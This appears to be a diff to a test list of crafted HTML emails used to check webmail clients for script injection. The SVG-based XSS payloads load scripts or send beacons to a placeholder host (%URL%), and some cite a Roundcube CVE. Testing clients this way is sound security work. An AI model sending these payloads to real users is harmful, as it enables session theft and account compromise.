@@ -12,7 +12,7 @@ MAILS = (
     html("svg-script-xlink", "and an old name", "<svg><script xlink:href=%URL%/a.js /></svg>"),
     html("svg-script-entities", "entities are decoded in SVG's scripts", "<svg><script>&#118;oid(new(Image)().src=`%URL%/e`)</script></svg>"),
     html("svg-link", "a link in SVG that is a script (Roundcube)", '<svg><a xlink:href="javascript:%JS%"><text x=20 y=20 id=c>XXXXX</text></a></svg>', **CLICKED),
-    html("svg-link-away", "a link in SVG that leads away", '<svg><a href="%URL%/"><text x=20 y=20 id=c>XXXXX</text></a></svg>', click="#c", connects="a link that is clicked"),
+    html("svg-link-away", "a link in SVG that leads away", '<svg><a href="%URL%/"><text x=20 y=20 id=c>XXXXX</text></a></svg>', click="#c"),
     html("svg-animate-values", "animates a link's address (Roundcube, CVE-2024-37383)",
          f'<svg><animate href=#xss attributeName=href values="javascript:%JS%" />{LINK}</svg>', **CLICKED),
     html("svg-animate-space", "with a space after the name (CVE-2024-37383)",
